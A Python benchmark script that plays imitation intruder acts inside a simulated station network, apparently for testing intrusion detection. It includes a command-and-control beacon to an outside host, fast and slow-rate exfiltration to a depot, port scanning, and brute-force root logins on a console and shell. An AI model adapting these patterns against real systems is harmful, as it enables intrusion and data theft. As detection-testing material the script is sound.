"""What an intruder does, as harmless imitations: calls, copies of nothing, names and secrets that open nothing.

Every act runs in the namespace of whoever is in the intruder's hands there, and only addresses of the site and the
outsider's own can be reached from it. Before its first packet it prints the site's time, ns.

Usage: python bench/intruder_acts.py ACT PLAN        until it is done or ended
"""

import asyncio
import contextlib
import random
import sys
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from intruder_site import (
    CONSOLE,
    DEPOT,
    GATEWAYS,
    LINK,
    NETWORK,
    ORDERS,
    OUTSIDE,
    OUTSIDER,
    SECRET,
    SEEDLINK,
    SHELL,
    Plan,
    read_plan,
)

#: Steps of the backdoor's calls, s.
_BEACON_S = 30.0

#: What is carried out in a hurry: a tenth of a day of one station, in a minute.
_FAST_BYTES_PER_S, _FAST_S = 50_000, 60

#: Bytes a minute of the patient copies, each by a station of its own.
SLOW_BYTES_PER_MINUTE = (10_000, 1_000, 100, 10)

#: Secrets tried on a console, and sessions on a shell, before the right one.
_GUESSES, _SESSIONS = 30, 24

#: Addresses of the second gateway's network that a compromised station tries.
_SCANNED = range(1, 61)

Act = Callable[[Plan], Awaitable[None]]


def station(plan: Plan, number: int) -> str:
    """The address of a station by its number."""
    return plan.places()[number - 1].address


def begins(plan: Plan) -> None:
    """Say that it begins."""
    print(plan.now_ns(), flush=True)


async def call(
    source: str, server: str, port: int, wait_s: float = 10.0
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """Call from an address of one's own."""
    return await asyncio.wait_for(asyncio.open_connection(server, port, local_addr=(source, 0)), wait_s)


async def beacon(plan: Plan) -> None:
    """The gateway calls for orders each half minute."""
    chance = random.Random(1)
    begins(plan)
    while True:
        reader, writer = await call(LINK[GATEWAYS[0]], OUTSIDER, ORDERS)
        writer.write(bytes(64))
        await reader.read(1024)
        writer.close()
        await plan.wait(_BEACON_S * chance.uniform(0.95, 1.05))


async def copy_fast(plan: Plan) -> None:
    """A station's data are carried out as quickly as nobody is bothered by."""
    begins(plan)
    _, writer = await call(station(plan, 3), OUTSIDER, DEPOT)
    for _ in range(_FAST_S):
        writer.write(random.Random(3).randbytes(_FAST_BYTES_PER_S))
        await writer.drain()
        await plan.wait(1)
    writer.close()


async def copy_slowly(plan: Plan) -> None:
    """Four stations carry data out, each ten times as slowly as the one before; the slowest ten bytes a minute."""

    async def carry(source: str, bytes_per_minute: int) -> None:
        pieces = min(6, bytes_per_minute // 10)
        _, writer = await call(source, OUTSIDER, DEPOT)
        while True:
            writer.write(random.Random(source).randbytes(bytes_per_minute // pieces))
            await plan.wait(60 / pieces)

    begins(plan)
    await asyncio.gather(*(carry(station(plan, 4 + k), rate) for k, rate in enumerate(SLOW_BYTES_PER_MINUTE)))


async def subscribe(plan: Plan) -> None:
    """A reader who is on no list takes a station's records."""
    begins(plan)
    reader, writer = await call(OUTSIDER, station(plan, 5), SEEDLINK)
    code = plan.places()[5 - 1].code
    writer.write(f"SLPROTO 4.0\r\nSTATION {NETWORK}_{code}\r\nDATA\r\nEND\r\n".encode())
    while await reader.read(1 << 16):
        pass


async def scan(plan: Plan) -> None:
    """A station in other hands looks for others behind the second gateway, at the shell's port and the console's."""
    source, network = station(plan, 2), station(plan, plan.stations).rsplit(".", 1)[0]
    begins(plan)
    for last in _SCANNED:
        for port in (SHELL, CONSOLE):
            with contextlib.suppress(OSError, TimeoutError):
                _, writer = await call(source, f"{network}.{last}", port, 1 / plan.speed)
                writer.close()
            await plan.wait(0.5)


async def guess_console(plan: Plan) -> None:
    """One secret after the other at a digitiser's console; the last is right, and is used."""
    begins(plan)
    reader, writer = await call(OUTSIDER, station(plan, 6), CONSOLE)
    for guess in [*(f"secret{k}" for k in range(_GUESSES)), SECRET]:
        await reader.readuntil(b"login: ")
        writer.write(b"root\r\n")
        await reader.readuntil(b"Password: ")
        await plan.wait(1)
        writer.write(f"{guess}\r\n".encode())
    await reader.readuntil(b"# ")
    for command in ("id", "ls"):
        writer.write(f"{command}\r\n".encode())
        await reader.readuntil(b"# ")
        await plan.wait(5)
    writer.close()


async def guess_shell(plan: Plan) -> None:
    """One session after the other at a station's shell; the last is let in, and stays for half a minute."""
    begins(plan)
    for guess in [*(f"secret{k}" for k in range(_SESSIONS)), SECRET]:
        reader, writer = await call(OUTSIDER, station(plan, 7), SHELL)
        hello = b"SSH-2.0-imitation\r\n"
        writer.write(hello + random.randbytes(1400 - len(hello)))
        await reader.readexactly(1100)
        writer.write(f"root {guess}\n".encode())
        await reader.readexactly(80)
        if guess == SECRET:
            writer.write(b"id\n")
            await reader.read(1024)
            await plan.wait(30)
        writer.close()
        await plan.wait(1)


@dataclass(frozen=True, slots=True)
class Deed:
    """An act and where it is played.

    space  the namespace
    act    what is done there; None for what the site itself does when told so
    """

    space: str
    act: Act | None


#: The station that falls silent: the act is the site's own.
SILENCED = 8

DEEDS: Mapping[str, Deed] = {
    "beacon": Deed(GATEWAYS[0], beacon),
    "copy-fast": Deed(GATEWAYS[0], copy_fast),
    "copy-slowly": Deed(GATEWAYS[0], copy_slowly),
    "subscriber": Deed(OUTSIDE, subscribe),
    "scan": Deed(GATEWAYS[0], scan),
    "guess-console": Deed(OUTSIDE, guess_console),
    "guess-shell": Deed(OUTSIDE, guess_shell),
    "silence": Deed(GATEWAYS[0], None),
}


async def main() -> None:
    """Play one."""
    plan, act = read_plan(Path(sys.argv[2])), DEEDS[sys.argv[1]].act
    assert act is not None
    await act(plan)


if __name__ == "__main__":
    asyncio.run(main())
